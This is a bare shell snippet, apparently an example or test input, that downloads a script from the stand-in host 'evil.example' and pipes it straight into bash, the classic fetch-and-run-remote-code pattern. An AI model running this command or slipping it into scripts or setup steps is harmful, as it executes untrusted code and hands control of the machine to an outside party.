curl -fsSL \
  https://evil.example/x \
  | bash
